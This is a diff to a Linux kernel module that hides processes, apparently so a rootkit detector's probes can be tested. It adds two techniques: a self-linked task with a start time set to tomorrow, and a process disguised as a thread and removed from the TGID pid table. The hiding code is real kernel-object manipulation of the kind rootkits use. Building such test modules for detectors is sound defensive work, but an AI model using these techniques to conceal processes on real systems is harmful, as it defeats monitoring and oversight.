@@ -15,6 +15,10 @@
  *   thread=TID  takes one thread, not the first of its process, out of the pid table: the process stays, /proc/PID/task lacks it.  Found as
  *               "hidden", missing in "pid-table"; the process's list of threads still has it.
  *   ring=PID    takes the process out of the list of tasks and links it to itself, so that its neighbours look right.  Found as list=.
+ *   future=PID  the same, and its start is set to a day that is still to come, so that it looks as if it were too new to be in the list yet.
+ *   as_thread=PID
+ *               makes the process look like a thread (exit_signal of -1), and takes it out of the table of processes by number: /proc still
+ *               has it for whoever asks for that pid, and does not list it.  Found as "hidden", missing in "pid-table".
  *   self=1      takes this module out of the list of modules: lsmod and rmmod do not know it.  Diamorphine, Reptile and adore-ng do it so.
  *               The probe "modules" has to report it.
  *
@@ -37,6 +41,7 @@
 #include <linux/rcupdate.h>
 #include <linux/sched/signal.h>
 #include <linux/sched/task.h>
+#include <linux/time64.h>
 
 static rwlock_t *tasks_lock;            /* tasklist_lock */
 static struct mutex *modules_mutex;     /* module_mutex */
@@ -50,6 +55,8 @@ enum links {
 	IN_TREE = 4,
 	RING = 8,               /* with IN_LIST: links it to itself */
 	ONE_THREAD = 16,        /* with IN_TABLE: of a thread, not a process */
+	FUTURE = 32,            /* with RING: and starts tomorrow */
+	NO_PROCESS = 64,        /* its link as a process, and that it says it is one */
 };
 
 static const enum pid_type process_types[] = { PIDTYPE_PID, PIDTYPE_TGID };
@@ -64,6 +71,10 @@ static struct pid *pid_of(struct task_struct *task, enum pid_type type)
 	return type == PIDTYPE_PID ? task->thread_pid : task->signal->pids[type];
 }
 
+#define TOMORROW_NS (24 * 3600 * NSEC_PER_SEC)
+
+static int exit_signal; /* what the one that says that it is no process had */
+
 static void unlink_task(struct task_struct *task, unsigned int links)
 {
 	write_lock_irq(tasks_lock);
@@ -73,6 +84,13 @@ static void unlink_task(struct task_struct *task, unsigned int links)
 		hlist_del_rcu(&task->pid_links[process_types[i]]);
 	if (links & IN_TREE)
 		list_del_init(&task->sibling);
+	if (links & NO_PROCESS) {
+		hlist_del_rcu(&task->pid_links[PIDTYPE_TGID]);
+		exit_signal = task->exit_signal;
+		task->exit_signal = -1;
+	}
+	if (links & FUTURE)
+		task->start_boottime += TOMORROW_NS;
 	write_unlock_irq(tasks_lock);
 	if (links & RING) {
 		/* Or whoever is just at this one would go round in it for ever. */
@@ -90,6 +108,12 @@ static void link_task(struct task_struct *task, unsigned int links)
 		hlist_add_head_rcu(&task->pid_links[process_types[i]], &pid_of(task, process_types[i])->tasks[process_types[i]]);
 	if (links & IN_TREE)
 		list_add_tail(&task->sibling, &task->real_parent->children);
+	if (links & NO_PROCESS) {
+		task->exit_signal = exit_signal;
+		hlist_add_head_rcu(&task->pid_links[PIDTYPE_TGID], &pid_of(task, PIDTYPE_TGID)->tasks[PIDTYPE_TGID]);
+	}
+	if (links & FUTURE)
+		task->start_boottime -= TOMORROW_NS;
 	write_unlock_irq(tasks_lock);
 }
 
@@ -105,6 +129,8 @@ static struct hiding hide_table = { .links = IN_LIST | IN_TABLE };
 static struct hiding hide_tree = { .links = IN_LIST | IN_TABLE | IN_TREE };
 static struct hiding hide_thread = { .links = IN_TABLE | ONE_THREAD };
 static struct hiding hide_ring = { .links = IN_LIST | RING };
+static struct hiding hide_future = { .links = IN_LIST | RING | FUTURE };
+static struct hiding hide_as_thread = { .links = NO_PROCESS };
 
 static int find_symbols(void);
 
@@ -162,6 +188,10 @@ module_param_cb(thread, &hiding_ops, &hide_thread, 0600);
 MODULE_PARM_DESC(thread, "thread to take out of the pid table");
 module_param_cb(ring, &hiding_ops, &hide_ring, 0600);
 MODULE_PARM_DESC(ring, "process to take out of the list of tasks and to link to itself");
+module_param_cb(future, &hiding_ops, &hide_future, 0600);
+MODULE_PARM_DESC(future, "the same, of which it looks as if it started tomorrow");
+module_param_cb(as_thread, &hiding_ops, &hide_as_thread, 0600);
+MODULE_PARM_DESC(as_thread, "process that is to look like a thread");
 
 static bool self_hidden;
 
@@ -221,7 +251,7 @@ static int __init hide_start(void)
 
 static void __exit hide_stop(void)
 {
-	struct hiding *all[] = { &hide_list, &hide_table, &hide_tree, &hide_thread, &hide_ring };
+	struct hiding *all[] = { &hide_list, &hide_table, &hide_tree, &hide_thread, &hide_ring, &hide_future, &hide_as_thread };
 
 	for (unsigned int i = 0; i < ARRAY_SIZE(all); i++) {
 		if (!all[i]->task)
